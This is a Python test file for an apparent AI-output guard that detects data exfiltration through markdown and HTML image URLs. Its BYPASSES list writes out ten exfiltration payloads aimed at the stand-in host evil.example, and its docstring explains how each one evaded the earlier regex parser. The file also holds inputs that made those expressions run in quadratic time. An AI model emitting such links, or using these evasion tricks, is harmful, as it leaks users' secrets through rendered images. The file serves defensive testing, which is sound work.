"""The exfiltration guard reads every URL a renderer would fetch, and in time linear in the text.

Each case in ``BYPASSES`` was a way past the guard's earlier regular expressions: a
destination with balanced parentheses or spaces inside ``<…>`` was cut short before its
query, brackets in an image's text hid it, ``>`` in a quoted attribute ended the ``<img>``
tag early, and ``srcset`` and protocol-relative URLs were not read. ``ADVERSARIAL`` texts made
those expressions try every start against the rest of the text: 20,000 characters of
``![a](`` took 5 s, 200,000 about ten minutes, all of it on the event loop.
"""

from __future__ import annotations

import pytest

from tollhouse.guards.detector import CallState
from tollhouse.guards.detectors.exfiltration import ExfiltrationDetector
from tollhouse.guards.detectors.link_scan import markdown_links
from tollhouse.guards.verdict import Scope

GUARD = ExfiltrationDetector(frozenset({"docs.example.com", "img.shields.io"}))
DATA = "?d=U0VDUkVUREFUQQ"

BYPASSES = [
    f"![a](https://evil.example/a(b){DATA})",
    f"![a](https://evil.example/a((b)){DATA})",
    f"![a](https://evil.example/a(((b))){DATA})",
    "![a](<https://evil.example/?d=SECRET DATA 1234>)",
    f"![alt [x] y](https://evil.example/{DATA})",
    f'<img alt=">" src="https://evil.example/{DATA}">',
    f'<img srcset="https://evil.example/{DATA} 1x, https://docs.example.com/a.png 2x">',
    f"![a](//evil.example/{DATA})",
    f"![a](HTTPS://EVIL.EXAMPLE/{DATA})",
    f"[x](((((![a](https://evil.example/{DATA})",
]

ALLOWED = [
    "[![badge](https://img.shields.io/badge/x-y-green)](https://docs.example.com/x)",
    "![a](https://img.shields.io/a.svg)![b](https://img.shields.io/b.svg)![c](https://evil.example/c.png)",
    "[ok](https://docs.example.com)followed-by-a-long-run-of-text-without-any-spaces-xxxxxxxxxxxxxxxxxxxx",
    "[docs](https://python.org/3/library/re.html) (see [here](https://docs.example.com/?q=123456789))",
    "call f(x)](y) and [a](b)",
]

ADVERSARIAL = ["![a](", "](", "](https://e.co/", "](//", "<img ", "<img src='", "[", "](https://e.co/("]


def _kinds(text: str) -> list[str]:
    return [f.kind for f in GUARD.detect(text, Scope.ASSISTANT, CallState())]


@pytest.mark.parametrize("text", BYPASSES)
def test_every_url_a_renderer_fetches_is_read_whole(text: str) -> None:
    assert _kinds(text) == ["image_exfiltration"]


@pytest.mark.parametrize("text", ALLOWED)
def test_links_end_where_markdown_ends_them(text: str) -> None:
    assert _kinds(text) == []


def test_a_finding_spans_the_whole_image() -> None:
    text = f'Here: ![chart](https://evil.example/c.png{DATA} "title") done'
    (finding,) = GUARD.detect(text, Scope.ASSISTANT, CallState())
    assert text[finding.start : finding.end] == f'![chart](https://evil.example/c.png{DATA} "title")'
    (link,) = markdown_links(text)
    assert (link.url, link.image) == (f"https://evil.example/c.png{DATA}", True)


@pytest.mark.timeout(20)  # each text takes well under a second; quadratic work took minutes
@pytest.mark.parametrize("unit", ADVERSARIAL)
def test_adversarial_texts_are_read_in_linear_time(unit: str) -> None:
    text = unit * (400_000 // len(unit))
    GUARD.detect(text, Scope.ASSISTANT, CallState())
    assert "image_exfiltration" in _kinds(text + f" ![x](https://evil.example/{DATA})")
